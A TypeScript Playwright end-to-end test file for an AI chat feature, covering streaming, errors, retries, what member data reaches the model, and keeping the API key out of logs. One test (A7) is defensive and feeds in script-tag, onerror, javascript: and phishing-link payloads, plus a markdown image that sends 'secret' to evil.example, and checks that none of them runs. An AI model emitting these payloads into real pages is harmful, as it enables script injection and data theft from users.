import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { until } from '../infra/test/until.js';
import {
  answers,
  type RunningProvider,
  says,
  startProvider,
  stopsAfterALetter,
  wants,
} from '../services/ai/test/scripted-provider.fixture.js';
import { openBrowser, openPage } from './browser.js';
import { aMember, enrol, signIn } from './member.js';
import { type Product, startProduct } from './product.js';
import { takePart } from './seeker.js';
import { SignedInMember } from './signed-in-member.js';

jest.setTimeout(180_000);
const KEY = 'sk-e2e-0123456789-very-secret';
let provider: RunningProvider;
let product: Product;
let browser: Browser;

/** A page at which a question has been asked. `elsewhere`: what it wanted from other hosts; `said`: what it was answered. */
async function afterAsking(question: string, arrive: (page: Page) => Promise<void> = async () => {}) {
  const { page, complaints } = await openPage(browser, product.url);
  const elsewhere: string[] = [];
  page.on('request', request => {
    if (new URL(request.url()).origin !== product.url) elsewhere.push(request.url());
  });
  const dialogs: string[] = [];
  page.on('dialog', dialog => (dialogs.push(dialog.message()), dialog.dismiss()));
  await arrive(page);
  await page.goto('/aichat');
  await page.getByPlaceholder('Ask Attune anything…').fill(question);
  await page.getByRole('button', { name: 'Send', exact: true }).click();
  return { page, complaints, elsewhere, dialogs };
}
const lastAnswer = (page: Page) => page.locator('[role=log] [data-from=assistant]').last();

describe('AI chat with a model', () => {
  beforeAll(async () => {
    provider = await startProvider();
    Object.assign(process.env, { AI_BASE_URL: provider.url, AI_API_KEY: KEY });
    [product, browser] = await Promise.all([startProduct(), openBrowser()]);
  });
  afterEach(() => Promise.all(browser.contexts().map(context => context.close())));
  afterAll(async () => {
    await browser.close();
    await product.end();
    await provider.stop();
  });

  test("a model's answer is shown, and says which model wrote it", async () => {
    provider.follow(says('Ask about the **dog**.'));

    const { page, complaints } = await afterAsking('What shall I write?');

    await page.getByText('AI model llama-3.1-8b-instruct').waitFor();
    expect(await lastAnswer(page).locator('strong').textContent()).toBe('dog');
    expect(complaints).toEqual([]);
  });

  test('A9: an answer shows while it is written; a member who stops it ends the request to the model as well', async () => {
    provider.follow(stopsAfterALetter);

    const { page } = await afterAsking('Tell me everything');
    await lastAnswer(page).getByText('H', { exact: true }).waitFor();
    expect(await page.getByRole('button', { name: '...' }).isDisabled()).toBe(true);
    await page.getByRole('button', { name: 'Stop' }).click();

    await page.getByText('You stopped this answer.').waitFor();
    await until(() => provider.open() === 0);
    provider.follow(says('Hello there.'));
    await page.getByRole('button', { name: 'Try again' }).click();
    await lastAnswer(page).getByText('Hello there.').waitFor();
  });

  test('A7: what an answer brings along runs nothing, loads nothing and leads nowhere by itself', async () => {
    provider.follow(
      says(
        'Look: <script>alert(1)</script> <img src=x onerror=alert(2)> ' +
          '![cat](https://evil.example/?q=secret) [here](javascript:alert(3)) [bank](https://evil.example/login)',
      ),
    );

    const { page, elsewhere, dialogs, complaints } = await afterAsking('Show me');
    const answer = lastAnswer(page);
    // What sets the text is loaded with the first answer.
    await answer.getByRole('link', { name: 'bank' }).waitFor();

    expect(await answer.textContent()).toContain('<script>alert(1)</script> <img src=x onerror=alert(2)>');
    expect(await answer.locator('script, img, iframe').count()).toBe(0);
    expect(await answer.locator('a').evaluateAll(links => links.map(link => link.getAttribute('href')))).toEqual([
      'https://evil.example/login',
    ]);
    await answer.getByText('here').click();
    expect([elsewhere, dialogs, complaints]).toEqual([[], [], []]);
  });

  test("A8: no choices is '⚠️ No response received.', a fault '❌ Error contacting LLaMA 3.1', and both can be tried again", async () => {
    provider.follow(answers(200, 'application/json', '{"choices":[]}'));
    const { page } = await afterAsking('Hi');
    await page.getByText('⚠️ No response received.').waitFor();

    provider.follow(answers(500, 'text/html', `<h1>${KEY}</h1>`));
    await page.getByRole('button', { name: 'Try again' }).click();
    await page.getByText('❌ Error contacting LLaMA 3.1').waitFor();
    await page.getByRole('button', { name: 'Send', exact: true }).waitFor();

    provider.follow(says('Hello there.'));
    await page.getByRole('button', { name: 'Try again' }).click();
    await lastAnswer(page).getByText('Hello there.').waitFor();
    expect(provider.seen.at(-1)?.body.messages.slice(1)).toEqual([{ role: 'user', content: 'Hi' }]);
  });

  test('what a model finds for a member is a card, and the model is told no more than first names and usernames', async () => {
    const mia = aMember({ firstname: 'Mia', lastname: 'Mountain' });
    await enrol(await browser.newContext({ baseURL: product.url }), product, mia);
    const ada = aMember({ firstname: 'Ada', lastname: 'Summer' });
    provider.follow(wants('search_members', '{"query":"Mia"}'), says('I found Mia.'));

    const { page } = await afterAsking('Find Mia', async arriving => {
      await signIn(arriving.context(), product, ada);
    });

    await page.getByRole('list', { name: 'People found' }).getByText('Mia', { exact: true }).waitFor();
    const told = provider.seen.map(({ text }) => text).join();
    expect(told).toContain(mia.username);
    expect(told).not.toContain('Mountain');
    expect(told).not.toContain(mia.email);
    expect(told).not.toContain(ada.email);
  });

  test('a model is told of suggestions what both said and both share, and the member reads all of it under “What we send”', async () => {
    const hiker = {
      free_saturday: { answer: 'outside' },
      smoking: { answer: 'daily', mayBeQuoted: false },
      faith: { answer: 'central' },
    };
    const open = (firstname: string) => SignedInMember.open(browser, product, { firstname, lastname: 'Brook' });
    const [ben, ada, cleo] = [await open('Ben'), await open('Ada'), await open('Cleo')];
    await takePart(ben, 'Akureyri', { age: 31, answers: hiker });
    await takePart(ada, 'Akureyri', { age: 30, answers: hiker });
    const note = 'I saw you on the train.';
    await cleo.ask('POST', '/api/friends/send-request', { targetId: ada.userId, note });
    provider.follow(wants('my_suggestions', '{}'), wants('my_friends', '{}'), says('Ben likes to be outside.'));
    const page = await ada.context.newPage();

    await page.goto('/aichat');
    await page.getByPlaceholder('Ask Attune anything…').fill('Someone who likes hiking near me');
    await page.getByRole('button', { name: 'Send', exact: true }).click();

    await page.getByRole('list', { name: 'People found' }).getByText('Ben', { exact: true }).waitFor();
    await page.getByRole('link', { name: 'Open Discover' }).waitFor();
    const told = provider.seen
      .at(-1)
      ?.body.messages.filter(({ role }) => role === 'tool')
      .map(({ content }) => content);
    expect(told?.[0]).toContain('Go outside, walk or do sports');
    for (const secret of [/\b(wo)?m[ae]n\b/, /smoke|Every day/, /faith|centre/, /Akureyri/i, new RegExp(note), /Cleo/])
      expect(told?.join()).not.toMatch(secret);
    await page.getByRole('button', { name: 'What we send' }).click();
    const texts = page.getByRole('dialog').locator('pre');
    await texts.filter({ hasText: 'Go outside' }).first().waitFor({ state: 'attached' });
    const shown = await texts.allTextContents();
    expect(shown).toEqual(expect.arrayContaining(told ?? []));
  });

  test("I29: the key goes to the provider, and neither it nor the provider's address is in any log", async () => {
    const { host } = new URL(provider.url);
    expect(provider.seen.at(-1)?.authorization).toBe(`Bearer ${KEY}`);

    const logs = readdirSync(product.logs).filter(name => name !== 'redis.log' && name !== 'mongodb.log');
    for (const name of logs) {
      const text = readFileSync(join(product.logs, name), 'utf8');
      expect([name, text.includes(KEY), text.includes(host)]).toEqual([name, false, false]);
    }
    expect(logs).toContain('host.log');
  });
});
